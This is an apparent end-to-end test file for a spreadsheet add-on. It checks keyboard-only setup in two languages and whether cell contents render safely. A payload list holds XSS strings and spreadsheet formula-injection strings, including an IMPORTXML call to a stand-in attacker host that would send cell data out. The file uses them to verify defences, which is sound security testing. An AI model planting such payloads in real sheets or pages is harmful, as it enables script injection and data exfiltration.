/** Without a mouse: everything from opening the file to the first update. And cells that would like to be more than text. */
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { startPlayground } from '../../playground/server/start-playground.ts'
import { cellOf, shopWorkbook, tabOf } from '../addon/shop.ts'
import { violations } from './axe.ts'
import { launchBrowser } from './browser.ts'
import { arrive, FIRST_RESULT, WORKER_ADDRESS } from './person.ts'

const AS_OF = '2026-11-22'
const PAYLOADS = [
  '<img src=x onerror="globalThis.hit=1">',
  '"><script>globalThis.hit=1</script>',
  'javascript:globalThis.hit=1',
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML("http://evil.example/"&A1)',
  '+1+1',
  '@SUM(1)',
]

let browser: Browser
beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser?.close())

it.each(['en', 'zh'] as const)('sets up and updates for the first time by keyboard alone (%s)', async (locale) => {
  const playground = await startPlayground({ workbook: shopWorkbook(), today: AS_OF, locale, sleepShare: 0.02 })
  const { page, dialog, words, leave } = await arrive(browser, playground, locale)
  const press = (key: string, times = 1): Promise<void> =>
    Array.from({ length: times }).reduce<Promise<void>>(
      (before) => before.then(() => page.keyboard.press(key)),
      Promise.resolve(),
    )
  const focused = () => page.evaluate('document.activeElement.textContent') as Promise<string>
  /** Goes on by Tab until the focus, in whatever frame, is on something of that name. */
  const tabTo = async (name: string): Promise<void> => {
    for (let step = 0; step < 80; step++) {
      for (const frame of page.frames()) {
        const text = await frame.evaluate(
          `document.hasFocus() && document.activeElement !== document.body ? document.activeElement.textContent : ''`,
        )
        if (text === name) return
      }
      await press('Tab')
    }
    throw new Error(`Tab never comes to “${name}”`)
  }
  try {
    // From the file's name into the menu bar, along it to the add-on's menu, down to Set up.
    await page.getByLabel(words.page.fileName).focus()
    await press('Tab')
    for (let step = 0; step < 10 && (await focused()) !== words.addon.menu.title; step++) await press('ArrowRight')
    await press('ArrowDown')
    for (let step = 0; step < 15 && (await focused()) !== words.addon.menu.setUp; step++) await press('ArrowDown')
    await press('Enter')
    await dialog.getByRole('heading', { name: words.connection.firstTitle }).waitFor()
    await dialog.getByLabel(words.connection.url).waitFor()
    for (let step = 0; step < 5; step++) {
      const frame = page.frames().find((one) => one.url().includes('add-on-page'))
      if ((await frame?.evaluate('document.activeElement.id')) === 'url') break
      await press('Tab')
    }
    await page.keyboard.type(WORKER_ADDRESS)
    await press('Tab')
    await page.keyboard.type(playground.setupKey)
    await press('Enter')
    await dialog.getByRole('button', { name: words.connection.toSetUp }).waitFor()
    await tabTo(words.connection.toSetUp)
    await press('Enter')
    await dialog.getByRole('heading', { name: words.setUp.leaving }).waitFor()
    await tabTo(words.setUp.save)
    await press('Enter')
    await dialog.getByRole('button', { name: words.setUp.update, exact: true }).waitFor()
    await tabTo(words.setUp.update)
    await press('Enter')
    await dialog.getByText(FIRST_RESULT).waitFor()
    await tabTo(words.setUp.close)
    await press('Enter')
    await page.locator('dialog.page').waitFor({ state: 'detached' })
    expect(cellOf(tabOf(await playground.workbook(), 'Customers'), 'C001', 'Segment')).not.toBe('')
  } finally {
    await leave()
    await playground.stop()
  }
})

it('shows payloads in every text column as text: no markup, no formula, no link, in the sheet, the dialog and the sidebar', async () => {
  const workbook = shopWorkbook()
  const text = (row: number, column: number): string => PAYLOADS[(row + column) % PAYLOADS.length]
  for (const [name, columns] of [
    ['Customers', [2, 3, 4]],
    ['Orders', [1, 5]],
  ] as const) {
    const sheet = tabOf(workbook, name)
    for (let row = 2; row <= sheet.lastRow(); row++)
      for (const column of columns) sheet.setValue(row, column, text(row, column))
  }
  const playground = await startPlayground({ workbook, today: AS_OF, sleepShare: 0.02 })
  const owner = await arrive(browser, playground, 'en')
  const { page, sidebar } = owner
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).origin))
  const harmless = async (): Promise<void> => {
    for (const frame of page.frames()) {
      expect(await frame.evaluate('globalThis.hit')).toBeUndefined()
      expect(
        await frame
          .locator('img, a[href^="javascript"], a[href*="evil"], script:not([type]):not(:first-of-type)')
          .count(),
      ).toBe(0)
    }
  }
  try {
    await owner.choose('openSidebar')
    await owner.choose('setUp')
    await owner.connect(playground.setupKey)
    await harmless()
    await owner.saveAndUpdate()
    await harmless()
    await owner.closeDialog()
    const { sheets } = await playground.workbook()
    for (const tab of ['Customers', 'Orders', 'Problems'])
      if (sheets.some(({ name, hidden }) => name === tab && !hidden)) {
        await owner.goTo(tab)
        await page.getByRole('gridcell').first().waitFor()
        await harmless()
      }
    for (const view of ['contacts', 'search', 'settings', 'customer'] as const) {
      await owner.view(view)
      if (view === 'search') {
        await sidebar.getByRole('combobox').fill('C00')
        await sidebar.getByRole('option').nth(1).click()
        await sidebar.locator('details').first().waitFor()
      }
      await page.waitForTimeout(300)
      await harmless()
    }
    expect(await violations(await owner.frame('sidebar'))).toEqual([])
    expect(new Set(asked)).toEqual(new Set([new URL(playground.url).origin]))
    const after = await playground.workbook()
    for (const sheet of after.sheets)
      for (let row = 1; row <= sheet.lastRow(); row++)
        for (let column = 1; column <= sheet.lastColumn(); column++) {
          const value = String(sheet.value(row, column))
          if (!PAYLOADS.some((payload) => value.includes(payload))) continue
          expect(sheet.look(row, column)?.formula, `${sheet.name} ${row}/${column}`).toBeUndefined()
          expect(sheet.look(row, column)?.link, `${sheet.name} ${row}/${column}`).toBeUndefined()
        }
  } finally {
    await owner.leave()
    await playground.stop()
  }
})
